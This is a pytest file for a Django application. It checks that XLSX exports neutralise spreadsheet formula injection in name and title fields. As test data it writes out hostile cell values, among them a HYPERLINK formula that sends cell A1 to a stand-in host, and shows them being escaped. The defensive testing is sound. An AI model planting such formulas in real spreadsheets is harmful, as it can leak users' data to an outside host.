"""No name becomes a formula in any Excel export.

Every person, unit, organisation, criterion and indicator name (and every other ``name``/
``title`` column) is rewritten to start with one of the characters a spreadsheet runs
(``= + - @``, tab) before each XLSX screen of the URL table is downloaded; the file is read back
with openpyxl: no cell is a formula, no text cell starts with such a character (it is written
with a leading apostrophe), and the hostile text is there as text. Every module of the
application that builds a workbook must write it through ``ntm.core.xlsx.workbook_bytes``.
"""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

import ntm
from ntm.core.xlsx import FORMULA_STARTS
from tests.test_url_scope import CASES

XLSX_SCREENS = sorted(name for name in CASES if "xlsx" in name or name.endswith("_export"))
HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào")'
# One payload per row, by primary key: the commune report's "Ấp" sheet and the roll-up's
# "Tổng hợp" sheet let "=…" and "@SUM(1)" through before issue 21.
HOSTILES = (HOSTILE, "@SUM(1)+", "+1+", "-2+3+", "\t=1+1 ")
# A workbook fed to the import benchmark (write-only, never handed to a user).
NOT_EXPORTS = {"bench/run.py"}
FIELDS = {"name", "full_name", "title", "display_name", "short_name"}


def _poison() -> int:
    changed = 0
    for model in apps.get_models():
        if not model.__module__.startswith("ntm."):
            continue
        for field in model._meta.concrete_fields:
            if field.name in FIELDS and isinstance(field, models.CharField):
                room = max(0, (field.max_length or 200) - len(HOSTILE))
                for pk, value in model._default_manager.values_list("pk", field.attname):
                    payload = HOSTILES[pk % len(HOSTILES)] if isinstance(pk, int) else HOSTILE
                    text = f"{payload}{(value or '')[:room]}"[: field.max_length]
                    model._default_manager.filter(pk=pk).update(**{field.attname: text})
                    changed += 1
    return changed


def test_every_xlsx_screen_is_checked() -> None:
    assert {"criteria:set_export", "reports:report_xlsx", "reports:rollup_xlsx"} <= set(
        XLSX_SCREENS
    )


@pytest.mark.django_db
@pytest.mark.parametrize("name", XLSX_SCREENS)
def test_names_starting_with_equals_stay_text(
    name: str, client: Any, world: Any, reporting: Any, today: Any
) -> None:
    case = CASES[name]
    url = reverse(name, kwargs=case.kwargs(world) if case.kwargs else None)
    assert _poison() > 0
    client.force_login(world.users[case.insider])
    response = client.get(url)
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    formulas, active, hostile = [], [], 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if cell.data_type == "f":
                    formulas.append(where)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    active.append(where)
                # Written with an apostrophe (the criteria import removes it again).
                if isinstance(cell.value, str) and cell.value.startswith(
                    tuple("'" + h for h in HOSTILES)
                ):
                    hostile += 1
    assert not formulas, formulas[:10]
    assert not active, active[:10]
    assert hostile > 0, f"{name}: no cell starts with a hostile name: the check proves nothing"


def test_every_workbook_is_written_through_the_one_writer() -> None:
    root = Path(ntm.__file__).parent
    offenders = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in f"/{relative}" or relative in NOT_EXPORTS or relative == "core/xlsx.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "Workbook(" in text and "workbook_bytes(" not in text:
            offenders.append(relative)
    assert not offenders, f"workbooks not written by ntm.core.xlsx.workbook_bytes: {offenders}"


def test_personal_data_export_neutralises_every_text_cell() -> None:
    from ntm.participation.personal_data import Record, export_xlsx

    records = [
        Record(kind="Góp ý", obj=None, name=h, phone="+84 912", unit_name="@Ấp", details={"a": h})
        for h in HOSTILES
    ]
    workbook = load_workbook(io.BytesIO(export_xlsx(records)))
    cells = [c.value for row in workbook.active.iter_rows() for c in row]
    assert all(not (isinstance(v, str) and v.startswith(FORMULA_STARTS)) for v in cells)
    assert "'@SUM(1)+" in cells and "'+84 912" in cells
